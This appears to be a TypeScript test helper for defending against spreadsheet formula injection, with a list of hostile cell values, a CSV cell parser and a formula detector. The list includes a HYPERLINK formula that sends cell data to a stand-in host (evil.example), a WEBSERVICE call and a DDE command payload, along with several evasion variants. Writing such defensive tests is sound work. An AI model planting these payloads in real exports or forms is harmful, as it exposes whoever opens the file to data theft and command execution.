/** Texts that spreadsheets would run, or that would leave their cell; strangers can write them into a form. */
export const hostileCells = [
	'=1+1',
	'=HYPERLINK("https://evil.example/?x="&A1;"Click")',
	"=cmd|' /C calc'!A0",
	'+SUM(1;2)',
	'-2+3',
	'@SUM(A1:A9)',
	' =1+1',
	'\t=1+1',
	'＝1+1',
	'=WEBSERVICE("https://evil.example")',
	'a",=1+1,"b',
	'a\n=1+1',
	'a;=1+1',
	'+1-555-0100',
]

/** Every cell of a table, as a spreadsheet reads it. */
export function* cellsOf(table: string): Generator<string> {
	for (const [, cell = ''] of table.matchAll(/("(?:[^"]|"")*"|[^",\r\n]*)(?:,|\r\n)/g))
		yield cell.startsWith('"') ? cell.slice(1, -1).replaceAll('""', '"') : cell
}

/** Would be run; a phone number has nothing to calculate with. */
export const isFormula = (cell: string): boolean => /^\s*[=+\-@＝＋－＠]/.test(cell) && !/^\+[\d ().]+$/.test(cell)
